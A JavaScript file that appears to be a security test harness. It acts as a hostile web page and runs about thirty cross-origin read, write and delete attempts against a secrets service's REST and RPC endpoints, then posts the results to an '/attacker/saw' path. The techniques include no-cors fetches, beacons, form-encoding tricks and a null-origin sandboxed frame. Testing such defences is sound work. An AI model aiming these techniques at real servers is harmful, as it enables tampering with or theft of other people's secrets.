// What a web page of somebody else's tries. Runs in the browser: `target` is the server that it attacks, "" for the page's own
// name. Reports what it saw of each attempt to where it came from.
const target = new URLSearchParams(location.search).get("target") ?? "";
const REST = `${target}/secrets/api/v1`;
const RPC = `${target}/flyteidl2.secret.SecretService`;
const WAIT_MS = 10_000;

const secret = (name) => JSON.stringify({ id: { name }, secretSpec: { stringValue: "from-a-page" } });
/** What a page can read of an answer. */
const seen = async (answer) => `${answer.type} ${answer.status} ${await answer.text()}`;
const fetched = (url, options) => fetch(url, options).then(seen);
const json = { "content-type": "application/json" };

/** An element that loads, or doesn't. */
function element(tag, attributes) {
  const one = Object.assign(document.createElement(tag), attributes);
  return new Promise((resolve) => {
    one.onload = () => resolve("loaded");
    one.onerror = () => resolve("not loaded");
    document.body.append(one);
  });
}

/** A frame, and what of it the page can read. */
async function frame(attributes, submit = () => {}) {
  const one = Object.assign(document.createElement("iframe"), attributes);
  document.body.append(one);
  // Not before: the empty page that a frame begins with is loaded at once.
  const loaded = new Promise((resolve) => {
    one.onload = resolve;
  });
  submit(one);
  await loaded;
  try {
    return `read ${one.contentDocument.body.textContent}`;
  } catch (error) {
    return String(error);
  }
}

function form(name, enctype, fields) {
  const one = Object.assign(document.createElement("form"), { action: REST, method: "post", enctype, target: name });
  for (const [field, value] of Object.entries(fields)) {
    one.append(Object.assign(document.createElement("input"), { name: field, value }));
  }
  document.body.append(one);
  return frame({ name }, () => one.submit());
}

function xhr(method, url, headers, body) {
  const one = new XMLHttpRequest();
  one.open(method, url);
  for (const [name, value] of Object.entries(headers)) one.setRequestHeader(name, value);
  return new Promise((resolve) => {
    one.onloadend = () => resolve(`${one.status} ${one.responseText}`);
    one.send(body);
  });
}

function socket(name) {
  const one = new WebSocket(`${new URL(REST, location.href).href.replace(/^http/, "ws")}?limit=1&from=${name}`);
  return new Promise((resolve) => {
    one.onopen = () => resolve("open");
    one.onerror = () => resolve("not open");
  });
}

function eventSource(name) {
  const one = new EventSource(`${REST}?limit=1&from=${name}`);
  return new Promise((resolve) => {
    one.onmessage = ({ data }) => resolve(`read ${data}`);
    one.onerror = () => {
      one.close();
      resolve("not open");
    };
  });
}

/** In a frame whose origin is `null`. */
function sandboxed(name) {
  const script = `fetch(${JSON.stringify(REST)}, { method: "POST", mode: "no-cors", body: ${JSON.stringify(secret(name))} })
    .then((answer) => answer.type, String).then((saw) => parent.postMessage(saw, "*"))`;
  const one = Object.assign(document.createElement("iframe"), { sandbox: "allow-scripts" });
  one.srcdoc = `<script>${script.replaceAll("<", "\\u003c")}</script>`;
  return new Promise((resolve) => {
    addEventListener("message", ({ data }) => resolve(data), { once: true });
    document.body.append(one);
  });
}

const list = (name) => `${REST}?limit=1&from=${name}`;
const connectGet = (name) => `${RPC}/ListSecrets?connect=v1&encoding=json&message=%7B%7D&from=${name}`;
const post = (name, options) => fetched(REST, { method: "POST", mode: "no-cors", body: secret(name), ...options });

const ATTEMPTS = {
  "read-cors": (name) => fetched(list(name)),
  "read-no-cors": (name) => fetched(list(name), { mode: "no-cors" }),
  "read-no-referrer": (name) => fetched(list(name), { mode: "no-cors", referrerPolicy: "no-referrer" }),
  "read-connect-get": (name) => fetched(connectGet(name), { mode: "no-cors" }),
  "read-connect-cors": (name) => fetched(connectGet(name)),
  "read-image": (name) => element("img", { src: list(name) }),
  "read-script": (name) => element("script", { src: list(name) }),
  "read-style": (name) => element("link", { rel: "stylesheet", href: list(name) }),
  "read-frame": (name) => frame({ src: list(name) }),
  "read-object": (name) => element("object", { data: list(name) }),
  "read-socket": socket,
  "read-events": eventSource,
  "write-text": (name) => post(name),
  "write-text-rpc": (name) => fetched(`${RPC}/CreateSecret`, { method: "POST", mode: "no-cors", body: secret(name) }),
  "write-cors": (name) => post(name, { mode: "cors" }),
  "write-form-type": (name) => post(name, { headers: { "content-type": "application/x-www-form-urlencoded" } }),
  "write-no-type": (name) => post(name, { body: new Blob([secret(name)]) }),
  "write-no-referrer": (name) => post(name, { referrerPolicy: "no-referrer" }),
  "write-json": (name) => post(name, { mode: "cors", headers: json }),
  "write-json-no-cors": (name) => post(name, { headers: json }),
  "write-json-rpc": (name) => fetched(`${RPC}/CreateSecret`, { method: "POST", headers: json, body: secret(name) }),
  "write-xhr": (name) => xhr("POST", REST, { "content-type": "text/plain" }, secret(name)),
  "write-xhr-json": (name) => xhr("POST", REST, json, secret(name)),
  "write-beacon": async (name) => String(navigator.sendBeacon(REST, secret(name))),
  "write-beacon-json": async (name) =>
    String(navigator.sendBeacon(REST, new Blob([secret(name)], { type: "application/json" }))),
  "write-form": (name) => form(name, "application/x-www-form-urlencoded", { id: name, secretSpec: "from-a-page" }),
  "write-form-files": (name) => form(name, "multipart/form-data", { id: name, secretSpec: "from-a-page" }),
  "write-form-text": (name) => form(name, "text/plain", { [secret(name).replace(/}$/, ',"future":"')]: '"}' }),
  "write-null-origin": sandboxed,
  "delete-xhr": () => xhr("DELETE", `${REST}/name/own`, {}),
  "delete-rpc": () =>
    fetched(`${RPC}/DeleteSecret`, { method: "POST", mode: "no-cors", body: '{"id":{"name":"own"}}' }),
  "delete-rpc-json": () =>
    fetched(`${RPC}/DeleteSecret`, { method: "POST", headers: json, body: '{"id":{"name":"own"}}' }),
};

const tooLate = () => new Promise((resolve) => setTimeout(resolve, WAIT_MS, "nothing in time"));
const saw = {};
for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  const result = Promise.resolve().then(() => attempt(name));
  saw[name] = await Promise.race([result.catch(String), tooLate()]);
}
saw.health = await fetched(`${target}/healthz`, { mode: "no-cors" }).catch(String);
await fetch("/attacker/saw", { method: "POST", body: JSON.stringify(saw) });
